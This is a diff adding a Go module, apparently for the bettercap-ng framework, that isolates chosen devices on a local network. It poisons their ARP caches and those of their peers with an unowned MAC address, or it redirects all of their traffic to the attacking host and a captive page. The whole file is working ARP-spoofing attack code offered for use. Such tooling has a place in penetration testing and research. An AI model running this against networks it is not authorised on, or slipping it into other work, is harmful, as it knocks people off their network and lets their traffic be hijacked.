@@ -0,0 +1,329 @@
+package modules
+
+import (
+	"crypto/rand"
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/evilsocket/bettercap-ng/core"
+	"github.com/evilsocket/bettercap-ng/firewall"
+	"github.com/evilsocket/bettercap-ng/log"
+	network "github.com/evilsocket/bettercap-ng/net"
+	"github.com/evilsocket/bettercap-ng/packets"
+	"github.com/evilsocket/bettercap-ng/session"
+
+	"github.com/malfunkt/iprange"
+)
+
+// Cuts the targets off the network by poisoning their ARP caches, and
+// the ones of their peers, with a hardware address nobody owns. With a
+// portal port set, the targets get this host address instead and all
+// of their traffic is redirected here, so that they can only reach the
+// page served on that port.
+type Quarantine struct {
+	session.SessionModule
+
+	addresses    []net.IP
+	portal       int
+	blackhole    net.HardwareAddr
+	redirections []*firewall.Redirection
+	done         chan bool
+}
+
+func NewQuarantine(s *session.Session) *Quarantine {
+	q := &Quarantine{
+		SessionModule: session.NewSessionModule("net.quarantine", s),
+		addresses:     make([]net.IP, 0),
+		redirections:  make([]*firewall.Redirection, 0),
+		done:          make(chan bool),
+	}
+
+	q.AddParam(session.NewStringParameter("net.quarantine.targets", "", "", "IP addresses to isolate."))
+
+	q.AddParam(session.NewIntParameter("net.quarantine.portal",
+		"0",
+		"If greater than 0, the HTTP requests of the targets are redirected to this port of the interface ( where http.server can serve a captive page ) instead of being dropped."))
+
+	q.AddHandler(session.NewModuleHandler("net.quarantine on", "",
+		"Start isolating the targets.",
+		func(args []string) error {
+			return q.Start()
+		}))
+
+	q.AddHandler(session.NewModuleHandler("net.quarantine off", "",
+		"Stop isolating the targets and restore their ARP caches.",
+		func(args []string) error {
+			return q.Stop()
+		}))
+
+	q.AddHandler(session.NewModuleHandler("net.quarantine IP", `^net\.quarantine\s+(\d+\.\d+\.\d+\.\d+)$`,
+		"Isolate the given address, shortcut for 'set net.quarantine.targets IP; net.quarantine on'.",
+		func(args []string) error {
+			if q.Running() == true {
+				return session.ErrAlreadyStarted
+			}
+			q.Session.Env.Set("net.quarantine.targets", args[0])
+			// go through the session so the checks done when starting modules apply
+			return q.Session.Run("net.quarantine on")
+		}))
+
+	return q
+}
+
+func (q Quarantine) Name() string {
+	return "net.quarantine"
+}
+
+func (q Quarantine) Description() string {
+	return "Isolate devices from the network, optionally allowing them to reach a captive portal only."
+}
+
+func (q Quarantine) Author() string {
+	return "Simone Margaritelli <evilsocket@protonmail.com>"
+}
+
+func (q *Quarantine) Configure() error {
+	var err error
+	var targets string
+
+	if err, targets = q.StringParam("net.quarantine.targets"); err != nil {
+		return err
+	} else if targets == "" {
+		return fmt.Errorf("net.quarantine.targets is empty.")
+	} else if err, q.portal = q.IntParam("net.quarantine.portal"); err != nil {
+		return err
+	} else if q.portal < 0 || q.portal > 65535 {
+		return fmt.Errorf("Invalid portal port %d.", q.portal)
+	}
+
+	list, err := iprange.Parse(targets)
+	if err != nil {
+		return fmt.Errorf("Error while parsing net.quarantine.targets variable '%s': %s.", targets, err)
+	}
+
+	q.addresses = make([]net.IP, 0)
+	for _, ip := range list.Expand() {
+		addr := ip.String()
+		if addr == q.Session.Interface.IpAddress || addr == q.Session.Gateway.IpAddress {
+			log.Warning("Skipping %s from the quarantine.", addr)
+			continue
+		}
+		q.addresses = append(q.addresses, ip)
+	}
+
+	if len(q.addresses) == 0 {
+		return fmt.Errorf("No addresses to isolate.")
+	}
+
+	// locally administered, so it can't belong to a real device
+	q.blackhole = make(net.HardwareAddr, 6)
+	if _, err := rand.Read(q.blackhole); err != nil {
+		return err
+	}
+	q.blackhole[0] = (q.blackhole[0] | 0x02) & 0xfe
+
+	return nil
+}
+
+func (q *Quarantine) isTarget(ip string) bool {
+	for _, addr := range q.addresses {
+		if addr.String() == ip {
+			return true
+		}
+	}
+	return false
+}
+
+// The gateway and the known hosts the targets could talk to.
+func (q *Quarantine) peers() []*network.Endpoint {
+	peers := []*network.Endpoint{q.Session.Gateway}
+	for _, t := range q.Session.Targets.List() {
+		if t.IpAddress != q.Session.Interface.IpAddress && t.IpAddress != q.Session.Gateway.IpAddress && q.isTarget(t.IpAddress) == false {
+			peers = append(peers, t)
+		}
+	}
+	return peers
+}
+
+func (q *Quarantine) getMAC(ip net.IP) net.HardwareAddr {
+	if t, found := q.Session.Targets.ByIP(ip.String()); found == true && t.HW != nil {
+		return t.HW
+	} else if mac, err := network.ArpLookup(q.Session.Interface.Name(), ip.String(), false); err == nil {
+		if hw, err := net.ParseMAC(mac); err == nil {
+			return hw
+		}
+	}
+	return nil
+}
+
+func (q *Quarantine) send(from net.IP, from_hw net.HardwareAddr, to net.IP, to_hw net.HardwareAddr, check_running bool) {
+	if err, pkt := packets.NewARPReply(from, from_hw, to, to_hw); err != nil {
+		log.Error("Error while creating ARP packet for %s: %s", to, err)
+	} else {
+		// restoring the caches on exit is not delayed
+		if check_running == true {
+			q.Session.RateLimit.Wait("net.quarantine")
+		}
+		q.Session.Queue.Send(pkt)
+	}
+}
+
+// Tells each target that its peers are at the given address, or at
+// their real one when restoring, and the peers that the target is
+// at the blackhole address, or at its real one when restoring.
+func (q *Quarantine) poison(restore bool) {
+	peers := q.peers()
+
+	for _, ip := range q.addresses {
+		if restore == false && q.Running() == false {
+			return
+		}
+
+		hw := q.getMAC(ip)
+		if hw == nil {
+			log.Debug("Could not find hardware address for %s.", ip)
+			continue
+		}
+
+		peerHW := q.blackhole
+		if q.portal > 0 {
+			// read at each round as mac.changer might have changed it
+			peerHW = q.Session.Interface.HW
+		}
+
+		targetHW := q.blackhole
+		if restore == true {
+			targetHW = hw
+		}
+
+		for _, peer := range peers {
+			if peer.HW == nil {
+				continue
+			} else if restore == true {
+				peerHW = peer.HW
+			}
+
+			q.send(peer.IP, peerHW, ip, hw, restore == false)
+			q.send(ip, targetHW, peer.IP, peer.HW, restore == false)
+		}
+	}
+}
+
+func (q *Quarantine) restore() error {
+	log.Info("Restoring ARP cache of %d quarantined targets.", len(q.addresses))
+
+	// a single packet might get lost, which would leave
+	// the target unable to reach the network
+	for i := 0; i < 3; i++ {
+		if i > 0 {
+			time.Sleep(500 * time.Millisecond)
+		}
+		q.poison(true)
+	}
+
+	return nil
+}
+
+// Everything the targets send is addressed to this host, which doesn't
+// forward it, HTTP goes to the portal and the rest to the same port of
+// the interface, so DNS can still be answered by dns.server.
+func (q *Quarantine) enableRedirections() error {
+	iface := q.Session.Interface
+
+	q.redirections = make([]*firewall.Redirection, 0)
+	for _, ip := range q.addresses {
+		if q.portal != 80 {
+			http := firewall.NewRedirection(iface.Name(), "TCP", 80, iface.IpAddress, q.portal)
+			http.From = ip.String()
+			q.redirections = append(q.redirections, http)
+		}
+
+		all := firewall.NewRedirection(iface.Name(), "", 0, iface.IpAddress, 0)
+		all.From = ip.String()
+		q.redirections = append(q.redirections, all)
+	}
+
+	for i, r := range q.redirections {
+		if err := q.Session.Firewall.EnableRedirection(r, true); err != nil {
+			q.redirections = q.redirections[:i]
+			q.disableRedirections()
+			return err
+		}
+		log.Debug("Applied redirection %s", r.String())
+	}
+
+	return nil
+}
+
+func (q *Quarantine) disableRedirections() {
+	for _, r := range q.redirections {
+		if err := q.Session.Firewall.EnableRedirection(r, false); err != nil {
+			log.Error("Error while removing redirection %s: %s", r.String(), err)
+		}
+	}
+	q.redirections = make([]*firewall.Redirection, 0)
+}
+
+func (q *Quarantine) Start() error {
+	if q.Running() == true {
+		return session.ErrAlreadyStarted
+	} else if err := q.Configure(); err != nil {
+		return err
+	}
+
+	if q.portal > 0 {
+		if err := q.enableRedirections(); err != nil {
+			return err
+		}
+	}
+
+	q.SetRunning(true)
+	q.Session.Journal.Push("net.quarantine", fmt.Sprintf("Quarantine of %d targets", len(q.addresses)), q.restore)
+
+	go func() {
+		defer q.Session.Recover()
+		if q.portal > 0 {
+			log.Info("[%s] isolating %d targets, HTTP is redirected to %s:%d.", core.Green("net.quarantine"), len(q.addresses), q.Session.Interface.IpAddress, q.portal)
+		} else {
+			log.Info("[%s] isolating %d targets.", core.Green("net.quarantine"), len(q.addresses))
+		}
+
+		for q.Running() {
+			q.poison(false)
+			time.Sleep(1 * time.Second)
+		}
+
+		q.done <- true
+	}()
+
+	return nil
+}
+
+func (q *Quarantine) Stop() error {
+	if q.Running() == false {
+		return session.ErrAlreadyStopped
+	}
+
+	log.Info("Waiting for quarantine to stop ...")
+
+	q.SetRunning(false)
+
+	<-q.done
+
+	q.restore()
+	q.disableRedirections()
+	q.Session.Journal.Remove("net.quarantine")
+
+	return nil
+}
+
+func (q *Quarantine) Metrics() []session.Metric {
+	isolated := 0
+	if q.Running() == true {
+		isolated = len(q.addresses)
+	}
+	return []session.Metric{
+		session.NewMetric("net_quarantine_targets", "Number of addresses being isolated.", session.MetricGauge, float64(isolated)),
+	}
+}